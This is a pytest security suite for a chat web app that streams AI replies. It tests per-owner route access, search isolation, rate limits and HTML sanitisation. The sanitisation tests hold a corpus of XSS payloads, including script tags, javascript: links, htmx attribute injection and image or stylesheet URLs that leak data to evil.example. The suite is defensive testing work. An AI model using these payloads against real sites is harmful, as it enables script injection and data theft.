"""Security properties, each a test that fails without its protection (see README, Security)."""

from __future__ import annotations

import html
import re

import pytest
from starlette.routing import Route
from starlette.testclient import TestClient

from tests.conftest import parse_html, parse_sse

HX = {"HX-Request": "true"}


def send(client: TestClient, msg: str = "hello", **data) -> tuple[str, int, str]:
    """POST a message like htmx does; return (conversation id, turn id, response HTML)."""
    r = client.post("/send", data={"msg": msg, **data}, headers=HX)
    assert r.status_code == 200, r.text
    tid = int(re.search(r'id="reply-(\d+)"', r.text).group(1))
    cid = re.search(r"/c/([^/]+)/turns/", r.text).group(1)
    return cid, tid, r.text


def read_stream(client: TestClient, html_text: str) -> list:
    url = re.search(r'sse-connect="([^"]+)"', html_text).group(1)
    with client.stream("GET", url) as r:
        return parse_sse(b"".join(r.iter_bytes()).decode())


# Isolation: every route that takes an id answers 404 to everyone but the owner ----------------


def test_every_route_with_an_id_checks_ownership(make_client, scripted):
    owner = make_client(scripted(["Reply **one**."]))
    cid, tid, body = send(owner, "my secret plans")
    read_stream(owner, body)
    stranger = TestClient(owner.app)
    stranger.portal = owner.portal  # same running app, no cookie: another anonymous user
    # An attachment waiting in the owner's composer (web/attachments.py).
    up = owner.post("/attachments", files={"file": ("plans.txt", b"secret plans", "text/plain")})
    aid = re.search(r'name="att" value="([^"]+)"', up.text).group(1)

    checked = []
    for route in owner.app.routes:
        if not isinstance(route, Route) or not route.param_convertors:
            continue
        params = set(route.param_convertors)
        # A new kind of id must be added here (and checked in its route) before this passes.
        # seq: a tool call waiting for approval, numbered within its turn (web/approvals.py).
        assert params <= {"cid", "tid", "chat_id", "aid", "seq"}, (
            f"{route.path}: teach this test about {params}"
        )
        path = route.path.replace("{cid}", cid).replace("{tid}", str(tid)).replace("{aid}", aid)
        path = path.replace("{seq}", "0")
        # A client-named chat (/api/chat/{chat_id}) is looked up among the caller's own chats:
        # for a stranger the owner's id names nothing to stop (404) or resume (204, empty).
        path = path.replace("{chat_id}", cid)
        allowed = {204, 404} if "chat_id" in params else {404}
        for method in sorted({m.upper() for m in route.methods} - {"HEAD"}):
            r = stranger.request(method, path, params={"before": tid}, headers=HX)
            assert r.status_code in allowed, f"{method} {route.path} answered {r.status_code}"
            assert "secret plans" not in r.text
            checked.append((method, route.path))
    # The test is only as good as its coverage: the routes that matter must be among them.
    paths = {p for _, p in checked}
    for needed in ("/c/{cid}", "/c/{cid}/turns/{tid}/stream", "/c/{cid}/turns/{tid}/stop",
                   "/c/{cid}/rename", "/c/{cid}/delete", "/c/{cid}/export.json",
                   "/attachments/{aid}", "/attachments/{aid}/remove",
                   "/c/{cid}/turns/{tid}/approvals/{seq}/approve"):  # fmt: skip
        assert needed in paths
    # And the stranger changed nothing: the owner still has the conversation, as it was.
    page = owner.get(f"/c/{cid}")
    assert page.status_code == 200 and "my secret plans" in page.text
    assert "Reply <strong>one</strong>" in page.text
    assert owner.get(f"/attachments/{aid}").content == b"secret plans"


def test_search_only_finds_your_own_messages(make_client, scripted):
    owner = make_client(scripted(["noted"]))
    read_stream(owner, send(owner, "zebracorn migration plan")[2])
    stranger = TestClient(owner.app)
    stranger.portal = owner.portal
    mine = owner.get("/search", params={"q": "zebracorn"}, headers=HX).text
    theirs = stranger.get("/search", params={"q": "zebracorn"}, headers=HX).text
    assert "<mark>zebracorn</mark>" in mine
    assert "<mark>" not in theirs and "No messages match" in theirs


# Untrusted output: a corpus of XSS payloads, live and stored ---------------------------------

PAYLOADS = [
    "<script>window.pwned=1</script>",
    '<img src=x onerror="window.pwned=1">',
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;vascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<div hx-get="/c/x/delete" hx-trigger="load">x</div>',
    '<div hx-on:click="alert(1)">x</div>',
    '<div hx-on::load="alert(1)">x</div>',
    '<div data-hx-post="/send" data-hx-trigger="load">x</div>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="http://evil.example/">',
    "![tracker](http://evil.example/track.png?leak=secret)",
    "![x](javascript:alert(1))",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>",  # unclosed fence
    "<details open ontoggle=alert(1)>x</details>",
    '[x](https://ok.example "t\\" onmouseover=\\"alert(1))',
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "<<script>script>alert(1)<</script>/script>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "[x](\x01javascript:alert(1))",
    '<x-foo hx-get="/" hx-trigger="load">x</x-foo>',
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
]
SAFE_TAGS = {
    "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s", "code",
    "pre", "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td",
    "span", "div", "sup", "sub",
}  # fmt: skip
SAFE_ATTRS = {"href", "title", "rel", "class", "start", "hx-disable", "id"}


def assert_inert(fragment: str) -> None:
    """Nothing in `fragment` (model output as a page receives it) can run or fetch."""
    tree = parse_html(fragment)
    for node in tree.walk():
        if node.tag == "#root":
            continue
        if node.tag == "button":  # the code header's copy button (app.js copies by delegation)
            assert node.attrs == {"type": "button", "class": "copy-code"}, fragment
            continue
        assert node.tag in SAFE_TAGS, f"<{node.tag}> survived in {fragment!r}"
        for name, value in node.attrs.items():
            assert name in SAFE_ATTRS, f"attribute {name}= survived in {fragment!r}"
            if name == "id":
                assert node.tag == "div" and (value or "").startswith("md-")
            if name == "href":
                # Browsers ignore control characters and whitespace inside a scheme.
                cleaned = re.sub(r"[\x00-\x20]", "", html.unescape(value or "")).lower()
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", cleaned)
                assert scheme is None or scheme[1] in ("http", "https", "mailto"), f"href={value!r}"


def _chunked(text: str, size: int) -> list[str]:
    return [text[i : i + size] for i in range(0, len(text), size)]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_xss_payload_is_inert_live_and_stored(make_client, scripted, payload):
    # Split across stream chunks, including mid-tag and mid-entity, and wrapped in prose.
    text = f"Before.\n\n{payload}\n\nAfter."
    model = scripted(_chunked(text, 3))
    client = make_client(model, messages_per_minute=1000)
    cid, tid, body = send(client, "show me")
    events = read_stream(client, body)
    live = [e.data for e in events if e.name in ("blocks", "tail")]
    assert live, "the reply streamed nothing"
    for data in live:
        # The tail ends with our own "still writing" cursor; everything else is model output.
        assert_inert(data.replace('<span aria-hidden="true" class="cursor"></span>', ""))
    page = parse_html(client.get(f"/c/{cid}").text)
    stored = page.find(id=f"md-{tid}")
    assert "After." in stored.text
    for node in stored.walk():
        if node is not stored and node.tag != "button":  # assert_inert checks the copy button
            assert node.tag in SAFE_TAGS and set(node.attrs) <= SAFE_ATTRS, node.tag
    assert_inert("".join(_serialize(c) for c in stored.children))


def _serialize(node) -> str:
    if isinstance(node, str):
        return html.escape(node)
    attrs = "".join(
        f' {k}="{html.escape(v)}"' if v is not None else f" {k}" for k, v in node.attrs.items()
    )
    return f"<{node.tag}{attrs}>" + "".join(_serialize(c) for c in node.children) + f"</{node.tag}>"


def test_images_in_model_output_are_links_never_fetched(make_client, scripted):
    client = make_client(scripted(["![chart](https://evil.example/x.png?q=secret)"]))
    cid, tid, body = send(client)
    read_stream(client, body)
    stored = parse_html(client.get(f"/c/{cid}").text).find(id=f"md-{tid}")
    assert not stored.find_all("img")
    link = stored.find("a")
    assert link.attrs["href"].startswith("https://evil.example/x.png")
    assert "chart" in link.text


# Limits ------------------------------------------------------------------------------------


def test_messages_per_minute_limit_gives_429_and_changes_nothing(make_client, scripted):
    model = scripted(["ok"])
    client = make_client(model, messages_per_minute=2)
    for i in range(2):
        read_stream(client, send(client, f"message {i}")[2])
    r = client.post("/send", data={"msg": "one too many"}, headers=HX)
    assert r.status_code == 429
    assert "limit" in r.text and r.headers["HX-Retarget"] == "#composer-error"
    assert len(model.calls) == 2
    assert "one too many" not in client.get("/search", params={"q": "many"}).text


def test_concurrent_replies_limit(make_client, scripted):
    model = scripted(["a", "b"], pause_after=1)
    client = make_client(model, concurrent_runs=1)
    send(client, "first")
    # A new conversation, so it is the per-identity limit that refuses (not "wait for the reply").
    r = client.post("/send", data={"msg": "second"}, headers=HX)
    assert r.status_code == 429 and "still being written" in r.text
    assert len(model.calls) <= 1
    model.resume.set()


def test_open_streams_limit(make_client, scripted):
    model = scripted(["a", "b"], pause_after=1)
    client = make_client(model, open_streams=1)
    _, _, body = send(client)
    url = re.search(r'sse-connect="([^"]+)"', body).group(1)
    with client.stream("GET", url) as first:
        assert first.status_code == 200
        second = client.get(url)
        assert second.status_code == 429
        model.resume.set()
        b"".join(first.iter_bytes())
    # The slot is given back when the stream ends.
    with client.stream("GET", url) as again:
        assert again.status_code == 200
        b"".join(again.iter_bytes())


def test_oversized_message_is_413_and_never_reaches_the_model(make_client, scripted):
    model = scripted(["ok"])
    client = make_client(model, max_message_chars=100)
    r = client.post("/send", data={"msg": "x" * 101}, headers=HX)
    assert r.status_code == 413 and "limit is 100" in r.text
    assert model.calls == []
    assert 'class="msg user"' not in client.get("/").text


def test_a_message_refused_while_a_reply_streams_does_not_use_up_the_limit(make_client, scripted):
    model = scripted(["a", "b"], pause_after=1)
    client = make_client(model, messages_per_minute=2)
    cid, tid, body = send(client, "first")
    for _ in range(3):  # edits and resends while the first reply is still being written
        assert (
            client.post(f"/c/{cid}/turns/{tid}/edit", data={"msg": "x"}, headers=HX).status_code
            == 409
        )
        r = client.post("/send", data={"msg": "y", "cid": cid}, headers=HX)
        assert r.status_code == 409 and "Wait for the reply" in r.text
    model.resume.set()
    read_stream(client, body)
    # Only the first message counted: the second of the two allowed per minute still goes through.
    assert client.post("/send", data={"msg": "second", "cid": cid}, headers=HX).status_code == 200
